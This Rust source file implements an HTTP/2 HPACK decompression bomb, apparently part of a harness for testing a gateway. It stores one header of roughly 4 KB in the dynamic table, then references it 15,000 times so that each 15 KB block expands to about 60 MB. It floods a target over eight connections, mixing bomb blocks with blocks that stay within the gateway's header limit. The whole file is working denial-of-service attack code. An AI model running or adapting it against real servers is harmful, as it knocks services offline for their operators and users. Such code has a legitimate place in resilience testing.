//! An HPACK bomb: a field as large as the table may be, told once and then named thousands of times, a byte each.

use super::attacker::{Field, Flood};
use super::frames::{Block, Frames, Numbers, STREAMS};
use super::stage::ATTACKED;

/// Of 15 KB each, which would be 60 MB unpacked.
const FLOOD: Flood = Flood { connections: 8, frames: 1_600 };

pub(crate) const REQUESTS: u32 = FLOOD.connections * STREAMS as u32;

/// With its name and the 32 bytes that count for a field, what the table of 4,096 bytes holds.
const LARGE: usize = 4_000;
const TIMES: usize = 15_000;

/// What still fits into the gateway's limit of a head.
const FITTING: usize = 14;

pub(crate) async fn run(field: &Field) {
    let telling = Block::get(ATTACKED, "/status/204");
    let (mut bomb, mut fitting, mut first) = (telling.clone(), telling.clone(), telling);
    first.remembered("x-large", &"x".repeat(LARGE));
    bomb.newest(TIMES);
    fitting.newest(FITTING);
    field
        .flood(FLOOD, move |_| {
            let (first, blocks) = (first.clone(), [bomb.clone(), fitting.clone()]);
            let mut numbers = Numbers::default();
            move |frames: &mut Frames| {
                let stream = numbers.one_more();
                if stream == 1 {
                    frames.request(stream, &first);
                } else {
                    frames.request(stream, &blocks[usize::from(stream % 4 == 1)]);
                }
            }
        })
        .await;
}
